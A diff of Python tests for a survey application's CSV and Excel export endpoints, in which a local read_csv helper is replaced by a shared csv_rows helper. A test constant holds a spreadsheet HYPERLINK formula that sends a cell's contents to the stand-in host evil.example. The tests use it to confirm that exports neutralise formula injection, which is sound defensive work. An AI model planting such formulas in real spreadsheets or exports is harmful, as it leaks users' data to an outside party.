@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import csv
 import io
 import tempfile
 import zipfile
@@ -18,14 +17,10 @@ from survey.extensions import db
 from survey.models import AuditLog, Response, Wave
 from survey.queries import export_columns, exports
 from survey.queries.filters import Filters
-from tests.helpers import csrf_token, post, with_text_question
+from tests.helpers import csrf_token, csv_rows, post, with_text_question
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 
-
-def read_csv(data: bytes) -> list[dict[str, str]]:
-    assert data.startswith(b"\xef\xbb\xbf")
-    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
 
 
 def xlsx_text(data: bytes) -> str:
@@ -45,15 +40,15 @@ def test_csv_rows_equal_the_filtered_count(analyst_client: FlaskClient,
     assert resp.status_code == 200
     assert resp.headers["Content-Type"] == "text/csv; charset=utf-8"
     assert "attachment" in resp.headers["Content-Disposition"]
-    rows = read_csv(resp.get_data())
+    rows = csv_rows(resp.get_data())
     assert len(rows) == exports.count(Filters(region="east")) == 2
     assert {int(r["response_id"]) for r in rows} == {stored[0].id, stored[2].id}
-    assert len(read_csv(analyst_client.get("/staff/export.csv").get_data())) == 3
+    assert len(csv_rows(analyst_client.get("/staff/export.csv").get_data())) == 3
 
 
 def test_exports_coarsen_dates_to_the_month(analyst_client: FlaskClient,
                                             stored: list[Response]) -> None:
-    rows = read_csv(analyst_client.get("/staff/export.csv").get_data())
+    rows = csv_rows(analyst_client.get("/staff/export.csv").get_data())
     assert rows[0]["month"] == stored[0].assessment.month
     day = stored[0].assessment.local_date.isoformat()
     assert day not in analyst_client.get("/staff/export.csv").get_data(as_text=True)
@@ -69,7 +64,7 @@ def test_no_token_in_any_export(analyst_client: FlaskClient, stored: list[Respon
     for token in tokens:
         for blob in (csv_bytes, xlsx_bytes, unpacked.encode()):
             assert token.encode() not in blob
-    assert "token" not in read_csv(csv_bytes)[0]
+    assert "token" not in csv_rows(csv_bytes)[0]
     assert f"<v>{stored[0].id}</v>" in unpacked  # the data is really in the workbook
 
 
@@ -79,7 +74,7 @@ def test_formula_looking_text_is_inert(admin_client: FlaskClient,
     assert wave is not None
     wave.name = FORMULA
     db.session.commit()
-    rows = read_csv(admin_client.get("/staff/export.csv").get_data())
+    rows = csv_rows(admin_client.get("/staff/export.csv").get_data())
     assert rows[0]["wave"] == "'" + FORMULA
     assert float(rows[0]["overall_score"]) >= 0  # numbers stay numbers
     sheet = xlsx_text(admin_client.get("/staff/export.xlsx").get_data())
@@ -99,7 +94,7 @@ def test_free_text_only_on_an_audited_admin_opt_in(
     db.session.commit()
 
     assert "include_free_text" in admin_client.get("/staff/exports").get_data(as_text=True)
-    plain = read_csv(admin_client.get("/staff/export.csv").get_data())
+    plain = csv_rows(admin_client.get("/staff/export.csv").get_data())
     assert "comments" not in plain[0]
     token = csrf_token(analyst_client, "/staff/exports")
     refused = analyst_client.post("/staff/export.csv",
@@ -108,12 +103,12 @@ def test_free_text_only_on_an_audited_admin_opt_in(
 
     opted = post(admin_client, "/staff/export.csv", {"include_free_text": "y"},
                  "/staff/exports")
-    rows = read_csv(opted.get_data())
+    rows = csv_rows(opted.get_data())
     assert rows[0]["comments"] == "'=2+5 call me on 138"
     actions = db.session.scalars(select(AuditLog.action).order_by(AuditLog.id)).all()
     assert actions.count("export.free_text_opt_in") == 1
     without_box = post(admin_client, "/staff/export.csv", {}, "/staff/exports")
-    assert "comments" not in read_csv(without_box.get_data())[0]
+    assert "comments" not in csv_rows(without_box.get_data())[0]
 
 
 def test_exports_are_audited(analyst_client: FlaskClient, analyst: object,
@@ -169,13 +164,13 @@ def test_excel_temp_files_are_removed(analyst_client: FlaskClient, stored: list[
 
 def test_exports_carry_the_2027_columns_and_the_codebook_their_codes(
         analyst_client: FlaskClient, stored: list[Response]) -> None:
-    rows = read_csv(analyst_client.get("/staff/export.csv").get_data())
+    rows = csv_rows(analyst_client.get("/staff/export.csv").get_data())
     assert {"financing_capability", "financing_status", "financing_gap",
             "overseas_markets_status", "credit_constraint", "revenue_band"} <= set(rows[0])
     assert {r["financing_status"] for r in rows} == {"scored"}
     assert all(r["credit_constraint"] in ("no_need", "not_constrained", "partially_constrained",
                                           "fully_constrained", "unknown") for r in rows)
-    codebook = read_csv(analyst_client.get("/staff/codebook.csv?lang=en").get_data())
+    codebook = csv_rows(analyst_client.get("/staff/codebook.csv?lang=en").get_data())
     credit = {r["option_value"]: r["option_label"] for r in codebook
               if r["column"] == "credit_constraint"}
     assert credit["fully_constrained"] == "Fully credit-constrained"
